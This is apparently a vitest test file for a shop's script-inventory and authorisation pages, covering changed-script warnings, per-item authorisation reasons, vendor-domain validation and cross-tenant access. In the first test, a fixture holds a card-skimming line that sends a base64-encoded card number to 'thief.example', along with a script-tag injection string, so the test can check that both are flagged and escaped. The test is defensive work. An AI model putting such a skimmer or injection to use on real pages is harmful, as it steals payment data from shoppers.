import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { productFiles } from '#engines/files/product-files.ts';
import type { TestHouse } from '#engines/testing/open-test-house.ts';
import type { Scope } from '#engines/verb.ts';
import type { ShopId } from '#kernel/ids.ts';
import { serveRooms } from '#web/testing/serve-rooms.ts';
import { authoriseScripts } from '../index.ts';
import { routes } from '../routes.tsx';
import { keyToken } from './key-token.ts';
import {
  appKey,
  CHAT,
  CHAT_SOURCE,
  first,
  type InventoryStage,
  openInventoryHouse,
  openInventoryStage,
  pageOf,
} from './testing/open-inventory-stage.ts';

let house: TestHouse;
let stage: InventoryStage;
let scope: Scope;
let shop: ShopId;

beforeAll(async () => {
  house = await openInventoryHouse();
});
afterAll(() => house[Symbol.asyncDispose]());
beforeEach(async () => {
  stage = await openInventoryStage(house);
  ({ scope, shop } = stage);
});

describe('pages', () => {
  const app = () => serveRooms(productFiles, () => scope, { '/inspect': routes() });
  const post = (path: string, form: Record<string, string>) => app().request(path, { method: 'POST', body: new URLSearchParams(form) });

  it('show what a changed script now names, and its source only as text', async () => {
    await stage.look(pageOf(first));
    await authoriseScripts(scope, { shop, reason: 'as it is' });
    await stage.look(
      pageOf({
        ...first,
        [CHAT]: `${CHAT_SOURCE};new Image().src="https://thief.example/i?"+btoa(card_number.value);"</script><script>alert(1)</script>"`,
      }),
    );
    const at = `/inspect/shops/${shop}/scripts/${keyToken(CHAT)}`;
    const html = await (await app().request(at)).text();
    expect(html).toContain('This script has changed since it was authorised');
    expect(html).toContain('names the host thief.example');
    expect(html).toMatch(/<li class="added">.*?new Image\(\)\.src/s);
    expect(html).not.toContain('<script>alert(1)');
    expect((await app().request(`/inspect/shops/${shop}/scripts/${'0'.repeat(24)}`)).status).toBe(404);
    expect((await post(`${at}/authorise`, { reason: ' ' })).status).toBe(400);
    expect((await post(`${at}/authorise`, { reason: 'looked at the change', owner: 'support' })).status).toBe(303);
    expect((await stage.standings())[CHAT]).toBe('authorised');
    const stranger = house.scope(house.newOrg(), 'owner');
    const theirs = serveRooms(productFiles, () => stranger, { '/inspect': routes() });
    expect((await theirs.request(at)).status).toBe(404);
  });

  it('take several decisions with a reason each, and change nothing when one is missing', async () => {
    await stage.look(pageOf(first));
    const at = `/inspect/shops/${shop}/inventory`;
    const items = {
      'item.0': `script ${CHAT}`,
      'pick.0': 'yes',
      'why.0': 'help while paying',
      'item.1': `script ${appKey}`,
      'pick.1': 'yes',
      'item.2': 'host cdn.chat.example',
    };
    expect((await post(`${at}/authorise`, items)).status).toBe(400);
    expect(await stage.standings()).toMatchObject({ [CHAT]: 'new', [appKey]: 'new' });
    expect((await post(`${at}/authorise`, { ...items, reason: 'our own' })).status).toBe(303);
    expect(await stage.standings()).toMatchObject({ [CHAT]: 'authorised', [appKey]: 'authorised' });
    expect(await stage.entries('inspect.scripts-authorised')).toMatchObject([
      { reason: 'help while paying', scripts: 1 },
      { reason: 'our own', scripts: 1, hosts: 0 },
    ]);
    expect((await post(`${at}/authorise`, {})).status).toBe(400);
    for (const domain of ['nonsense..', 'co.uk', '127.0.0.1', 'www.example.com', '<b>', 'cdn.jsdelivr.net', 'www.googletagmanager.com']) {
      const refused = await post(`${at}/vendor`, { domain, reason: 'their contract' });
      expect(refused.status, domain).toBe(400);
      expect(await refused.text()).toContain('role="alert"');
    }
    expect((await post(`${at}/vendor`, { domain: 'https://js.stripe.com/v3', reason: 'their contract' })).status).toBe(303);
    expect((await post(`${at}/vendor`, { domain: 'stripe.com', end: 'yes', reason: 'their contract ended' })).status).toBe(303);
    expect((await stage.entries('inspect.vendor-trust-changed')).map((entry) => (entry as { domain: string }).domain)).toEqual([
      'stripe.com',
      'stripe.com',
    ]);
    expect((await app().request(at)).status).toBe(200);
  });
});
